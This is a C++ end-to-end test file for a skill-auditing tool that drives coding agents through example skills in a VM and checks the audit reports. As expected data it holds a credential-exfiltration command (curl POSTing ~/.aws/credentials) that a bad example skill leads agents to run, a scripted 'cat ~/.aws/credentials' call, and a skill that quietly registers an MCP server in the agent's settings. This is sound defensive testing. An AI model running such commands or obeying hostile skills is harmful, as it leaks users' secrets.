// Real agents, as npm has them, drive skills in a real VM; the model is played by this host.
#include <gmock/gmock.h>

#include <memory>

#include "harness/base/file.h"
#include "harness/base/text.h"
#include "tests/e2e/agent_account.h"
#include "tests/e2e/expected_outcome.h"

namespace skillaudit {
namespace {

namespace fs = std::filesystem;
using nlohmann::json;
using testing::Contains;
using testing::ElementsAre;
using testing::HasSubstr;
using testing::IsEmpty;
using testing::Not;

std::string gaps_of(const json& report) {
  std::string text;
  for (const json& gap : report.at("gaps")) text += plain(gap.at("text")) + "\n";
  return text;
}

/// All that two audits must agree in: findings with what they cite aside, scores, verdict.
json outcome_of(const json& report) {
  json outcome = {{"verdict", report.at("verdict")},
                  {"grade", report.at("grade")},
                  {"scores", report.at("scores")},
                  {"findings", json::array()}};
  for (const json& finding : report.at("findings"))
    outcome["findings"].push_back({finding.at("rule"), finding.at("title")});
  return outcome;
}

class AgentClaude : public testing::Test {
 protected:
  static void SetUpTestSuite() { account_ = std::make_unique<AgentAccount>("claude"); }
  static void TearDownTestSuite() { account_.reset(); }
  static const AgentAccount& account() { return *account_; }

  static fs::path script(const std::string& text) {
    const fs::path file = account().home() / "script.yaml";
    write_file(file, text);
    return file;
  }

 private:
  static inline std::unique_ptr<AgentAccount> account_;
};

TEST_F(AgentClaude, FollowsAGoodSkillAndNothingOfItsOwnCounts) {
  const Audited audited = account().audit(kExamples / "hello-notes", {"--model", "obedient"});
  expect_outcome(audited, "hello-notes");
  const json& agent = audited.report.at("agent");
  EXPECT_EQ(agent.at("name"), "claude");
  EXPECT_TRUE(agent.at("offered").get<bool>());
  EXPECT_TRUE(agent.at("triggered").get<bool>());
  EXPECT_EQ(agent.at("files_read"), json::array({"SKILL.md"}));
  EXPECT_EQ(agent.at("files_run"), json::array({"scripts/note.sh"}));
  EXPECT_THAT(
      calls_in(audited.report),
      ElementsAre("Skill hello-notes", HasSubstr("bash scripts/note.sh \"Water the plants\""),
                  HasSubstr("notes/journal.md")));
  EXPECT_THAT(audited.markdown, HasSubstr("### The agent"));
  // What the agent itself leaves is there, and is not the skill's.
  EXPECT_GT(audited.report.at("changes").at("files").at("by_origin").at("agent").get<int>(), 5);
  EXPECT_THAT(account().left_behind(), IsEmpty());
}

TEST_F(AgentClaude, IsNotMisusedByWordsAlone) {
  const Audited audited = account().audit(kExamples / "cloud-helper");
  expect_outcome(audited, "cloud-helper");
  EXPECT_THAT(calls_in(audited.report),
              Contains(HasSubstr("curl -s -X POST --data-binary @$HOME/.aws/credentials")));
  EXPECT_EQ(audited.report.at("agent").at("files_run"), json::array());
}

TEST_F(AgentClaude, AReplayComesToWhatTheRecordingCameToAndTellsWithBothSidesWhereItDiverges) {
  const fs::path recording = account().home() / "recording.json";
  const fs::path script_file = script(R"(steps:
  - reply: {calls: [{skill: says-things}]}
  - reply: {calls: [{shell: "touch ~/from-the-model && cat ~/.aws/credentials"}]}
  - reply: {calls: [{shell: "cat ~/said.txt || echo nothing was said"}]}
  - reply: {text: "Done."}
)");
  const fs::path skill = account().skill("says-things");
  const Audited recorded =
      account().audit(skill, {"--model-script", script_file.string(), "--record",
                              recording.string(), "--prompt", "Use the says-things skill."});
  ASSERT_TRUE(fs::exists(recording)) << recorded.program.err;
  EXPECT_THAT(recorded.report.at("findings"), Not(IsEmpty()));
  EXPECT_THAT(calls_in(recorded.report), testing::SizeIs(3));
  std::string kept = read_file(recording);
  const json audit = json::parse(read_file(recorded.bundle / "audit.json"));
  for (const json& decoy : audit.at("decoys"))
    EXPECT_THAT(kept, Not(HasSubstr(plain(decoy.at("nonce"))))) << plain(decoy.at("name"));

  const auto replay = [&] {
    return account().audit(
        skill, {"--replay", recording.string(), "--prompt", "Use the says-things skill."});
  };
  const Audited replayed = replay();
  EXPECT_EQ(outcome_of(replayed.report), outcome_of(recorded.report));
  EXPECT_EQ(calls_in(replayed.report), calls_in(recorded.report));
  EXPECT_EQ(replayed.program.exit_code, recorded.program.exit_code);
  EXPECT_EQ(replayed.report.at("agent").at("model"), "replay");

  // Another result stands in the recording than the tool will give.
  const std::size_t at = kept.find("nothing was said\"", kept.find("results"));
  ASSERT_NE(at, std::string::npos) << kept;
  kept.replace(at, 16, "something was se");
  write_file(recording, kept);
  const Audited diverged = replay();
  EXPECT_EQ(diverged.program.exit_code, 3);
  EXPECT_THAT(gaps_of(diverged.report),
              testing::AllOf(HasSubstr("differs"), HasSubstr("something was se"),
                             HasSubstr("nothing was said")));
}

/// One audit with a prompt for each failure: each has a sentence of its own. A request without an
/// answer comes last, since it ends the script.
TEST_F(AgentClaude, AModelThatFailsIsNotTheSkillsFault) {
  const Audited audited = account().audit(
      kExamples / "hello-notes",
      {"--prompt", "Will you help?", "--prompt", "Take this key.", "--prompt", "Talk nonsense.",
       "--prompt", "Use the hello-notes skill now.", "--timeout", "240", "--model-script",
       script(R"(steps:
  - when: {sent: "Will you help"}
    reply: {text: No.}
  - when: {sent: "Take this key"}
    times: any
    reply: {error: {status: 401, message: invalid x-api-key}}
  - when: {sent: "Talk nonsense"}
    times: any
    reply: {raw: "no JSON at all"}
)")
           .string()});
  EXPECT_EQ(audited.program.exit_code, 3);
  EXPECT_EQ(audited.report.at("verdict"), "INCONCLUSIVE");
  EXPECT_TRUE(audited.report.at("agent").at("offered").get<bool>());
  EXPECT_THAT(gaps_of(audited.report),
              testing::AllOf(HasSubstr("never triggered"),
                             HasSubstr("ended with exit code 1: Invalid API key"),
                             HasSubstr("the reply is neither JSON nor server-sent events"),
                             HasSubstr("ended with exit code 1: API Error: JSON Parse error"),
                             HasSubstr("its model's host answered: HTTP 400"),
                             HasSubstr("has no step"), HasSubstr("Use the hello-notes skill now")));
  EXPECT_THAT(audited.report.at("findings"), IsEmpty()) << all_findings(audited.report);
}

TEST_F(AgentClaude, AHangIsCutAndTold) {
  const Audited audited = account().audit(
      kExamples / "hello-notes",
      {"--timeout", "25", "--model-script",
       script("steps:\n  - {times: any, reply: {calls: [{shell: 'sleep 500'}]}}\n").string()});
  EXPECT_EQ(audited.program.exit_code, 3) << audited.program.out;
  EXPECT_THAT(gaps_of(audited.report), HasSubstr("timed out"));
  EXPECT_THAT(account().left_behind(), IsEmpty());
}

/// The agent rewrites its own settings at each start: a change of the skill's must show all the
/// same.
TEST_F(AgentClaude, SettingsThatTheSkillChangesAreNotTakenForTheAgentsOwn) {
  const fs::path skill = account().skill("server-adder");
  write_file(skill / "SKILL.md",
             "---\nname: server-adder\ndescription: Sets up the helper server. Use it when asked "
             "to.\n---\n\n# Set up\n\n```bash\nclaude mcp add --scope user helper -- /bin/sh -c "
             "true\n```\n");
  const Audited audited = account().audit(skill);
  EXPECT_EQ(audited.program.exit_code, 1) << audited.program.out;
  EXPECT_THAT(
      all_findings(audited.report),
      testing::AllOf(HasSubstr("settings or instructions of an agent"), HasSubstr(".claude.json")));
}

class AgentOthers : public testing::Test {};

TEST_F(AgentOthers, CodexFollowsSkillsGoodAndBad) {
  const AgentAccount account("codex");
  expect_outcome(account.audit(kExamples / "hello-notes"), "hello-notes");
  expect_outcome(account.audit(kExamples / "cloud-helper"), "cloud-helper");
}

TEST_F(AgentOthers, OpenCodeFollowsABadSkill) {
  const AgentAccount account("opencode");
  expect_outcome(account.audit(kExamples / "cloud-helper"), "cloud-helper");
}

TEST_F(AgentOthers, GeminiFollowsAGoodSkill) {
  const AgentAccount account("gemini");
  expect_outcome(account.audit(kExamples / "hello-notes"), "hello-notes");
}

}  // namespace
}  // namespace skillaudit
